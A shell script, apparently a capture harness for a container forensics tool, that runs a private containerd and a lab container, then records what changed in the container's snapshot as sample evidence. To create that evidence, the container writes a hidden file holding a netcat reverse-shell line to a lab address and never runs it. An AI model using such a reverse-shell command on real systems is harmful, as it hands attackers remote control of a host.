#!/bin/sh
# Capture harness, containerd: start a private containerd (root, state and socket under a new
# temp directory), import the lab image (samples/real/docker/bundle.tar.zst's base-image.tar),
# `ctr run` a container that drops a file in a hidden directory and deletes one of the
# image's, record what containerd itself reports (`ctr containers ls`, `ctr images ls`,
# `ctr snapshots ls`) and the container's changes from its snapshot directory, stop the
# daemon and keep its root.
#
# Writes OUT/facts.tsv (runtime, container, image, added and deleted paths),
# OUT/ctr-*.txt (what ctr listed), OUT/dataroot.tar (the containerd root after shutdown:
# meta.db, the overlayfs snapshotter's metadata.db and snapshots, the content store).
# Needs root, containerd, ctr, runc (Debian: containerd, runc).
#
# Usage: sh samples/capture/containerd.sh OUT
set -eu
HERE=$(cd "$(dirname "$0")" && pwd)
. "$HERE/lib.sh"
OUT=${1:?usage: containerd.sh OUT}
need containerd ctr runc zstd tar
[ "$(id -u)" = 0 ] || die "needs root"
mkdir -p "$OUT"
T=$(mktemp -d /tmp/ctriage-containerd.XXXXXX)
PID=
cleanup() {
  if [ -n "$PID" ]; then
    kill "$PID" 2> /dev/null || true
    wait "$PID" 2> /dev/null || true
  fi
  unmount_under "$T"
  rm -rf "$T"
}
trap cleanup EXIT
printf 'version = 2\n' > "$T/config.toml"
containerd --config "$T/config.toml" --root "$T/root" --state "$T/state" --address "$T/c.sock" > "$OUT/containerd.log" 2>&1 &
PID=$!
c() { ctr -a "$T/c.sock" "$@"; }
wait_for containerd 100 c version
zstd -dc "$HERE/../real/docker/bundle.tar.zst" | tar -x -C "$T" ./base-image.tar
say "import the lab image"
c images import "$T/base-image.tar" > /dev/null
say "run: drop /tmp/.x/agent.sh, delete /bin/wget"
c run --rm=false docker.io/lab/shop-web:1.0 web sh -c \
  'mkdir -p /tmp/.x; printf "#!/bin/sh\nnc 10.0.0.9 4444 -e sh\n" > /tmp/.x/agent.sh; chmod 755 /tmp/.x/agent.sh; rm -f /bin/wget'
c containers ls > "$OUT/ctr-containers.txt"
c images ls > "$OUT/ctr-images.txt"
c snapshots ls > "$OUT/ctr-snapshots.txt"
grep -q '^web ' "$OUT/ctr-containers.txt" || die "ctr does not list the container"
CONFIG=$(c images ls | awk 'NR > 1 { print $3 }' | head -1)
# The image id is its config's digest: from the manifest in the content store.
MANIFEST=$T/root/io.containerd.content.v1.content/blobs/sha256/${CONFIG#sha256:}
IMAGE=$(tr -d ' \n' < "$MANIFEST" | sed 's/.*"config":{[^}]*"digest":"\([^"]*\)".*/\1/')
# The container's snapshot directory: the active snapshot, the one that holds its change.
FS=
for d in "$T"/root/io.containerd.snapshotter.v1.overlayfs/snapshots/*/fs; do
  [ -f "$d/tmp/.x/agent.sh" ] && FS=$d
done
[ -n "$FS" ] || die "the container's change is not in any snapshot"
{
  printf 'runtime\tcontainerd\t%s\n' "$(containerd --version | awk '{ print $3 }')"
  printf 'container\tweb\tweb\t0\n'
  printf 'image\t%s\tdocker.io/lab/shop-web:1.0\n' "$IMAGE"
  printf 'added\t/tmp/.x/agent.sh\t%s\t%s\n' "$(stat -c %Y "$FS/tmp/.x/agent.sh")" "$(sha256sum "$FS/tmp/.x/agent.sh" | cut -d' ' -f1)"
  printf 'deleted\t/bin/wget\t%s\twhiteout\n' "$(stat -c %Y "$FS/bin/wget")"
} > "$OUT/facts.tsv"
say "stop containerd, keep its root"
kill "$PID"
wait "$PID" 2> /dev/null || true
PID=
unmount_under "$T"
tar --numeric-owner --sort=name -C "$T" -cf "$OUT/dataroot.tar" root
say "done: $OUT"
